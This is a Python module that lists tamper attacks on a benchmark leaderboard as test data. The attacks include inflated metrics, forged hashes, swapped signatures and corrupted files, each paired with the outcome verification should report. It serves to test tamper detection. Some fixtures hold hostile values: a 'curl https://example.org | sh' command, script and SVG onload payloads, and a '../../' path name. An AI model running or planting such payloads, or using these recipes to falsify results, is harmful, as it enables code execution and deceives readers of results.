"""Attacks on a leaderboard, as data: what is done, and what each way of verifying says of it.

``CAUGHT``: verify ends with 1. ``TOLD``: it ends with 0, and says what there is to see. ``MISSED``: it says nothing.
The column of the signature is about signatures alone.
"""

import hashlib
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta

import msgspec
import numpy as np
from forging import STUDY, Forgery, make_key

from gapbench.host.discovery import discover
from gapbench.leaderboard.build import build
from gapbench.leaderboard.kept import keep_study
from gapbench.model.identity import checksum, sealed
from gapbench.model.request import Request
from gapbench.model.study import Reference
from gapbench.results import journal
from gapbench.results.signatures import sign

CAUGHT, TOLD, MISSED = "caught", "told", "not caught"


@dataclass
class Attack:
    """One attack.

    Parameters
    ----------
    name
        In the words of the docs.
    plain, recompute, signature
        What is expected of ``verify``, ``verify --recompute`` and of signatures.
    rows
        Changes the rows; all that follows from it is computed again.
    files
        Changes files afterwards.
    """

    name: str
    plain: str
    recompute: str
    signature: str
    rows: Callable[[Forgery], object] | None = None
    files: Callable[[Forgery], object] | None = None
    figures: bool = field(default=False)


ATTACKS: list[Attack] = []


def attack(name, plain, recompute, signature, *, figures=False, files=False):
    """Register a function as an attack on rows, or on files."""

    def register(function):
        where = {"files": function} if files else {"rows": function}
        ATTACKS.append(Attack(name, plain, recompute, signature, figures=figures, **where))
        return function

    return register


# -- values and outcomes --------------------------------------------------------------------------------------------


@attack("a value is raised", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["metrics"]["top1"]["value"] += 0.01


@attack("outcomes are made right, value and interval with them", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    hits = row.hits
    hits[np.flatnonzero(~hits)[:4]] = True
    row.hit(hits)


@attack(
    "outcomes and predicted classes are made right together, by the labels that other rows tell", MISSED, CAUGHT, CAUGHT
)
def _(f):
    row, labels = f.row("random-rotation"), f.labels()
    items = np.flatnonzero(~row.hits & (labels >= 0))[:8]
    hits, predicted = row.hits, row.arrays["predicted"].copy()
    hits[items], predicted[items] = True, labels[items]
    row.hit(hits, predicted)


@attack("outcomes of another row are taken over as a copy", MISSED, CAUGHT, CAUGHT)
def _(f):
    best, row = max(f.rows, key=lambda row: row.hits.mean()), f.row("random-rotation")
    row.arrays = dict(best.arrays)
    row.data["metrics"] = msgspec.json.decode(msgspec.json.encode(best.data["metrics"]))


@attack("a row points to the outcomes of another row", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    path = _records(f)
    first, *rest = [stored.record for stored in journal.read(path)]
    last = msgspec.structs.replace(rest[-1], outcomes=first.outcomes, metrics=first.metrics)
    path.write_bytes(b"".join(map(journal.line_of, [first, *rest[:-1], sealed(last)])))


@attack("the outcomes of a row are left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").arrays.clear()


@attack("0/1 outcomes of a task metric are left out, the value raised", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    del row.arrays["bits/top1"]
    row.data["metrics"]["top1"].update(value=0.99, ci95=None)


@attack("0/1 outcomes of a task metric become a jackknife", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    del row.arrays["bits/top1"]
    row.arrays["jackknife/top1"] = np.full(10, 0.99)
    row.data["metrics"]["top1"].update(value=0.99, ci95=[0.99, 0.99])


@attack("predicted classes are left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    del f.row("procrustes").arrays["predicted"]


@attack("a predicted class is none of the classes", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.arrays["predicted"] = row.arrays["predicted"].copy()
    row.arrays["predicted"][np.flatnonzero(~row.hits)[0]] = 100


@attack("top-5 is made worse than top-1", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    wrong = np.zeros(len(row.hits), dtype=bool)
    row.arrays["bits/top5"] = np.packbits(wrong)
    row.data["metrics"]["top5"].update(value=0.0, ci95=[0.0, 0.04581])


@attack("an interval is narrowed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    value = f.row("procrustes").data["metrics"]["top1"]
    value["ci95"] = [(value["ci95"][0] + value["value"]) / 2, value["ci95"][1]]


@attack("an interval of a gap is narrowed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    value = f.row("procrustes").data["metrics"]["centroid-l2"]
    value["ci95"] = [value["value"] - 1e-4, value["value"] + 1e-4]


@attack("an interval is taken away", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["metrics"]["top1"]["ci95"] = None


@attack("a gap is lowered, its interval moved along", MISSED, CAUGHT, CAUGHT)
def _(f):
    f.row("identity").move("centroid-l2", -0.2)


@attack("a gap is lowered in all rows alike", MISSED, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.move("centroid-l2", 0.1)


@attack("a distance becomes negative", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["metrics"]["centroid-l2"].update(value=-0.1, ci95=None)


@attack("a share becomes more than 1", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["metrics"]["top1"].update(value=1.5, ci95=None)


@attack("the number of items behind a gap is changed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["metrics"]["centroid-l2"]["n"] = 5


@attack("the number of items behind a gap is changed in all rows", MISSED, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["metrics"]["centroid-l2"]["n"] = 5


@attack("items on which a row is wrong are cut from its outcomes", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    kept = np.flatnonzero(row.hits)
    row.hit(row.hits[kept], row.arrays["predicted"][kept])


@attack("the hardest items are cut from all rows, and from the size of the dataset", MISSED, CAUGHT, CAUGHT)
def _(f):
    right = np.mean([row.hits for row in f.rows], axis=0)
    kept = np.sort(np.argsort(-right, kind="stable")[:-10])
    for row in f.rows:
        row.data["dataset"]["n"] -= 20
        row.data["items"]["fitted"] -= 10
        row.data["items"]["scored"] -= 10
        row.hit(row.hits[kept], row.arrays["predicted"][kept])
        row.recount("top5", np.unpackbits(row.arrays["bits/top5"], count=len(right)).astype(bool)[kept])
        row.recount("paired-cos", row.arrays["values/paired-cos"][kept].astype(np.float64))
        row.data["metrics"]["centroid-l2"]["n"] = len(kept)


@attack("the size of the dataset is changed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["dataset"]["n"] = 50_000


@attack("the size of the dataset is changed in all rows", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["dataset"]["n"] = 50_000


@attack("a metric is invented, in gapbench's name", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    value = {"value": 0.99, "ci95": None, "n": 80, "distribution": "gapbench"}
    f.row("procrustes").data["metrics"]["brilliance"] = value


@attack("a metric is invented, in the name of a plugin that is not installed", TOLD, TOLD, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.data["metrics"]["brilliance"] = {"value": 0.99, "ci95": None, "n": 80, "distribution": "brilliant"}
    row.data["code"]["brilliant"] = {"version": "1", "sha256": "1" * 64}


# -- names and settings ---------------------------------------------------------------------------------------------


@attack("an aligner is renamed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.data["label"] = row.data["aligner"]["name"] = "my-method"


@attack(
    "an aligner that is no part of the study is renamed, in the name of a plugin that is not installed",
    TOLD,
    TOLD,
    CAUGHT,
)
def _(f):
    row = f.row("gap-projection")
    row.data["label"] = row.data["aligner"]["name"] = "my-method"
    row.data["aligner"]["distribution"] = "mine"
    row.data["code"]["mine"] = {"version": "1", "sha256": "1" * 64}


@attack("a label is changed alone", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("gap-projection").data["label"] = "my-method"


@attack("a parameter is changed, its label with it", MISSED, CAUGHT, CAUGHT)
def _(f):
    row = f.row("gap-projection")
    copied = f.copy(f.row("procrustes"), file=row.file)
    copied.data["aligner"]["params"]["pull"] = 0.3
    copied.data["label"] = "procrustes[pull=0.3]"


@attack("a parameter is changed behind its label", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["aligner"]["params"]["pull"] = 0.3


@attack("a control becomes a method", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("random-rotation").data["aligner"]["control"] = False


@attack("the family of an aligner is changed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["aligner"]["family"] = "magic"


@attack("the encoder is renamed in all rows", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["encoder"].update(name="clip-large", component="clip-large")


@attack("the dataset is renamed in all rows", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["dataset"]["name"] = "embeddings:imagenet.npz"


@attack("the fingerprint of the encoder is changed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["encoder"]["fingerprint"] = "0" * 64


@attack("the fingerprints of encoder and data are changed in all rows", MISSED, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["encoder"]["fingerprint"] = row.data["dataset"]["fingerprint"] = "0" * 64


@attack("a fingerprint is no hash", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["encoder"]["fingerprint"] = row.data["dataset"]["fingerprint"] = "best"


@attack("the seed is changed", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["seed"] = 7


@attack("held-out becomes transductive", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    for row in f.rows:
        row.data["protocol"]["name"] = "transductive"


@attack("a protocol that there is not", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["protocol"]["name"] = "fair"


@attack("fewer items are said to be fitted on", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["items"]["fitted"] = 10


@attack("fewer items are said to be asked for and fitted on", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["protocol"]["fit_size"] = f.row("procrustes").data["items"]["fitted"] = 10


@attack("a choice is said that was not the best", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    chosen = f.row("gap-shift[delta=auto]").data["chosen"]
    chosen["params"] = min(chosen["scores"], key=lambda pair: pair[1])[0]


@attack("a choice is said that was not the best, its scores with it", MISSED, CAUGHT, CAUGHT)
def _(f):
    chosen = f.row("gap-shift[delta=auto]").data["chosen"]
    worst, _ = min(chosen["scores"], key=lambda pair: pair[1])
    chosen["scores"] = [(params, 1.0 if params == worst else value) for params, value in chosen["scores"]]
    chosen["params"] = worst


@attack("what pairs were made of is left out", MISSED, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["pairs"] = ""


@attack("a warning is added, or taken away", MISSED, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["warnings"] = ["reviewed by three referees"]


@attack("a note is changed", MISSED, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["notes"]["rank"] = 512


# -- time, place and code -------------------------------------------------------------------------------------------


@attack("a time in the future", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["created_utc"] = "2999-01-01T00:00:00.000+00:00"


@attack("a time that is none", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["created_utc"] = "yesterday"


@attack("an earlier time", MISSED, MISSED, CAUGHT)
def _(f):
    f.row("procrustes").data["created_utc"] = "2021-01-01T00:00:00.000+00:00"


@attack("the environment is left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["environment"] = {}


@attack("the environment is another one", MISSED, MISSED, CAUGHT)
def _(f):
    f.row("procrustes").data["environment"]["platform"] = "Plan 9"


@attack("the code is left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["code"] = {}


@attack("a hash of code is no hash", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.row("procrustes").data["code"]["gapbench"]["sha256"] = "abc"


@attack("the hash of the code is another one", TOLD, TOLD, CAUGHT)
def _(f):
    f.row("procrustes").data["code"]["gapbench"]["sha256"] = "0" * 64


@attack("a gap is lowered, by code that nobody has", TOLD, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.data["code"]["gapbench"]["sha256"] = "0" * 64
    row.move("centroid-l2", -0.01)


@attack("an aligner is renamed, by code that nobody has", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.data["code"]["gapbench"]["sha256"] = "0" * 64
    row.data["label"] = row.data["aligner"]["name"] = "my-method"


# -- rows -----------------------------------------------------------------------------------------------------------


@attack("a control of the study is left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.rows.remove(f.row("random-rotation"))


@attack("identity is left out", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    f.rows.remove(f.row("identity"))


@attack("a row that is no part of the study is left out of its submission", MISSED, MISSED, CAUGHT)
def _(f):
    f.rows.remove(f.row("gap-projection"))


@attack("a metric of the study is left out of a row", CAUGHT, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    del row.data["metrics"]["paired-cos"], row.arrays["values/paired-cos"]


@attack("a metric is said to have no meaning", MISSED, CAUGHT, CAUGHT)
def _(f):
    row = f.row("procrustes")
    del row.data["metrics"]["paired-cos"], row.arrays["values/paired-cos"]
    why = {"status": "not measurable", "reason": "too few rows", "distribution": "gapbench"}
    row.data["unmeasured"]["paired-cos"] = why


@attack("a cell is said to have failed", TOLD, TOLD, CAUGHT)
def _(f):
    row = f.row("procrustes")
    row.data.update(status="error", reason="no memory", metrics={})
    row.arrays.clear()


@attack("a row is copied", TOLD, TOLD, CAUGHT)
def _(f):
    f.copy(f.row("procrustes"))


@attack("a copy with another time makes a reproduction", TOLD, TOLD, TOLD)
def _(f):
    f.copy(f.row("procrustes"), file="again.jsonl").data["created_utc"] = "2026-01-01T00:00:00.000+00:00"


@attack("a copy with another time and other seconds makes a reproduction", MISSED, MISSED, TOLD)
def _(f):
    copied = f.copy(f.row("procrustes"), file="again.jsonl")
    copied.data["created_utc"] = "2026-01-01T00:00:00.000+00:00"
    copied.data["timing"]["fit_s"] += 0.001


@attack("a second run of the same code has other values", CAUGHT, CAUGHT, TOLD)
def _(f):
    copied = f.copy(f.row("procrustes"), file="again.jsonl")
    copied.data["timing"]["fit_s"] += 0.001
    copied.move("centroid-l2", 0.1)


@attack("a newer run of code that nobody has supersedes a value", TOLD, CAUGHT, TOLD)
def _(f):
    copied = f.copy(f.row("procrustes"), file="again.jsonl")
    copied.data["timing"]["fit_s"] += 0.001
    later = datetime.fromisoformat(copied.data["created_utc"]) + timedelta(milliseconds=1)
    copied.data["created_utc"] = later.isoformat(timespec="milliseconds")
    copied.data["code"]["gapbench"]["sha256"] = "0" * 64
    copied.move("centroid-l2", 0.1)


@attack("rows are put into another order", MISSED, MISSED, CAUGHT)
def _(f):
    f.rows.reverse()


# -- careless changes, and records files ----------------------------------------------------------------------------


def _records(f):
    return max(journal.files(f.folder), key=lambda path: path.stat().st_size)


@attack("a record is edited without its checksum", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    path = _records(f)
    path.write_bytes(path.read_bytes().replace(b'"seed":0', b'"seed":1', 1))


@attack("a record is edited with its checksum, without its id", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    path = _records(f)
    first, *rest = [stored.record for stored in journal.read(path)]
    first = msgspec.structs.replace(first, seed=1)
    first = msgspec.structs.replace(first, checksum=checksum(first))
    path.write_bytes(b"".join(map(journal.line_of, [first, *rest])))


@attack("a record of another schema", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    path = _records(f)
    path.write_bytes(path.read_bytes().replace(b'"schema_version":2', b'"schema_version":1', 1))


@attack("a line that is no record", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    with _records(f).open("ab") as file:
        file.write(b'["best"]\n')


@attack("the last line is cut off, as by a crash", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    _records(f).write_bytes(_records(f).read_bytes()[:-200])


def _container(f):
    return _records(f).with_suffix(".outcomes")


@attack("a byte of the outcomes is flipped", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    content = bytearray(_container(f).read_bytes())
    content[-1] ^= 1
    _container(f).write_bytes(content)


@attack("the outcomes are cut short", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _container(f).write_bytes(_container(f).read_bytes()[:-100])


@attack("the outcomes are deleted", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _container(f).unlink()


@attack("the outcomes become a link to a file elsewhere", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    elsewhere = f.folder.parent / f"{f.folder.name}-elsewhere"
    shutil.move(_container(f), elsewhere)
    _container(f).symlink_to(elsewhere)


@attack("the outcomes become a pipe", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _container(f).unlink()
    os.mkfifo(_container(f))


@attack("the outcomes become a folder", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _container(f).unlink()
    _container(f).mkdir()


@attack("bytes are added to the outcomes", TOLD, TOLD, MISSED, files=True)
def _(f):
    with _container(f).open("ab") as file:
        file.write(b"more")


# -- pages, figures and the study -----------------------------------------------------------------------------------


@attack("README.md is edited", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    path = f.folder / "README.md"
    path.write_text(path.read_text().replace("procrustes", "my-method"))


@attack("table.csv is edited", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    (f.folder / "table.csv").write_text("encoder\n")


@attack("table.tex is deleted", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    (f.folder / "table.tex").unlink()


@attack("a script is put into page.html", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    path = f.folder / "page.html"
    path.write_text(path.read_text().replace("</body>", "<script>alert(1)</script></body>"))


@attack("page.html is no UTF-8", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    path = f.folder / "page.html"
    path.write_bytes(path.read_bytes() + b"\xff")


@attack("README.md becomes a folder", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    (f.folder / "README.md").unlink()
    (f.folder / "README.md").mkdir()


@attack("a file is added", TOLD, TOLD, MISSED, files=True)
def _(f):
    (f.folder / "index.html").write_text("<script>alert(1)</script>")


def _edit_svg(f, old, new):
    path = f.folder / "figures" / "gap-accuracy.svg"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


@attack("a script is put into a figure", CAUGHT, CAUGHT, MISSED, files=True, figures=True)
def _(f):
    _edit_svg(f, "</svg>", "<script>alert(1)</script></svg>")


@attack("a script is put into a figure that no record gives", CAUGHT, CAUGHT, MISSED, files=True, figures=True)
def _(f):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    (f.folder / "figures" / "more.svg").write_text(svg)


@attack("a point of a figure is moved", CAUGHT, CAUGHT, MISSED, files=True, figures=True)
def _(f):
    _edit_svg(f, 'x="', 'x="1')


@attack(
    "a figure is drawn otherwise, and says that another matplotlib drew it",
    TOLD,
    TOLD,
    MISSED,
    files=True,
    figures=True,
)
def _(f):
    _edit_svg(f, "Matplotlib v", "Matplotlib v9")


@attack("a picture of a figure is edited", CAUGHT, CAUGHT, MISSED, files=True, figures=True)
def _(f):
    path = f.folder / "figures" / "gap-accuracy.png"
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.write_bytes(content)


def _pair(f, scores):
    title = "precomputed, embeddings:t.npz, given"
    rows = np.zeros((4, 8), dtype=np.float32)
    np.savez_compressed(
        f.folder / "figures" / "pair-forged.npz",
        **dict.fromkeys(("images_before", "texts_before", "images_after", "texts_after"), rows),
        owner=np.arange(4),
        labels=np.arange(4),
        words=np.array([title, "procrustes", *scores, "a", "b", "c", "d"]),
    )


@attack("the scores on the picture of a pair are changed in its data", CAUGHT, CAUGHT, MISSED, files=True, figures=True)
def _(f):
    _pair(f, ("top1 1.0 %", "top1 99.9 %"))


@attack("the rows in the data of the picture of a pair are others", TOLD, TOLD, MISSED, files=True, figures=True)
def _(f):
    _pair(f, [f"top1 {100 * f.row(label).hits.mean():.1f} %" for label in ("identity", "procrustes")])


@attack(
    "the title of a study that gapbench does not ship is changed, and pages are built again", MISSED, MISSED, MISSED
)
def _(f):
    f.study = msgspec.structs.replace(STUDY, title="The best of all")


@attack(
    "a published number of a study that gapbench does not ship is changed, and pages are built again",
    MISSED,
    MISSED,
    MISSED,
)
def _(f):
    number = Reference(metric="top1", value=0.1, source="a paper", prompts="given")
    f.study = msgspec.structs.replace(STUDY, reference=(number,))


def _keep(f, edit, *, noted):
    """Keep the study as a run does, build the pages, and edit what is kept; ``noted`` with its hash."""
    keep_study(f.folder, STUDY, Request(study="forged.toml"))
    build(f.folder, STUDY, discover().metric_specs())
    path = f.folder / "study.json"
    before = path.read_bytes()
    kept = msgspec.json.decode(before)
    edit(kept)
    path.write_bytes(msgspec.json.encode(kept))
    if noted:
        hashes = f.folder / "gapbench.sha256"
        old, new = (hashlib.sha256(content).hexdigest() for content in (before, path.read_bytes()))
        hashes.write_text(hashes.read_text().replace(old, new))


@attack("study.json is edited", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _keep(f, lambda kept: kept["study"].update(title=STUDY.title), noted=False)


@attack("another command is put into study.json, its hash with it", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _keep(f, lambda kept: kept["request"].update(command="curl https://example.org | sh"), noted=True)


@attack("the study in study.json gets the name of a path, its hash with it", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _keep(f, lambda kept: kept["study"].update(name="../../elsewhere"), noted=True)


@attack("study.json becomes a link to a file elsewhere", CAUGHT, CAUGHT, MISSED, files=True)
def _(f):
    _keep(f, lambda _: None, noted=True)
    elsewhere = f.folder.parent / f"{f.folder.name}-study"
    shutil.move(f.folder / "study.json", elsewhere)
    (f.folder / "study.json").symlink_to(elsewhere)


@attack("the records become a link to a file elsewhere", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    elsewhere = f.folder.parent / f"{f.folder.name}-records"
    path = _records(f)
    shutil.move(path, elsewhere)
    path.symlink_to(elsewhere)


@attack("a byte at the end of a line is flipped", CAUGHT, CAUGHT, CAUGHT, files=True)
def _(f):
    path = _records(f)
    path.write_bytes(path.read_bytes().replace(b"}\n", b"|\n", 1))


@attack("a control is left out, of the kept study as well", MISSED, MISSED, CAUGHT)
def _(f):
    f.rows.remove(f.row("random-rotation"))
    kept = tuple(name for name in STUDY.aligners if name != "random-rotation")
    f.study = msgspec.structs.replace(STUDY, aligners=kept)


# -- submissions and signatures -------------------------------------------------------------------------------------


@attack("a submission that is no part of the study is deleted, signature and all", MISSED, MISSED, MISSED)
def _(f):
    f.rows = [row for row in f.rows if row.data["label"] not in ("gap-projection", "dn")]


@attack("a signature is deleted", MISSED, MISSED, TOLD, files=True)
def _(f):
    next(f.folder.glob("records/*.sig")).unlink()


@attack("a submission is signed by somebody else", MISSED, MISSED, CAUGHT, files=True)
def _(f):
    key = f.folder.parent / f"{f.folder.name}-key"
    make_key(key)
    _records(f).with_name(_records(f).name + ".sig").write_bytes(sign(_records(f).read_bytes(), key))


@attack("a submission has the signature of another", MISSED, MISSED, CAUGHT, files=True)
def _(f):
    one, other = sorted(f.folder.glob("records/*.sig"))
    one.write_bytes(other.read_bytes())


@attack("a signature is no signature", MISSED, MISSED, CAUGHT, files=True)
def _(f):
    next(f.folder.glob("records/*.sig")).write_text("signed: me\n")
